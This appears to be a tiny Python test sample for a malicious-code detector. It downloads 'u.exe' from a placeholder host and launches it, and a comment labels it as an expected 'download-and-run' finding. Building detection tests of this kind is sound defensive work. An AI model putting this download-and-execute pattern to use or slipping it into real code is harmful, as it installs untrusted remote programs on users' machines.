import os
import urllib.request

urllib.request.urlretrieve("https://files.collect.example/u.exe", "u.exe")
os.startfile("u.exe") # expect: malicious-command/download-and-run
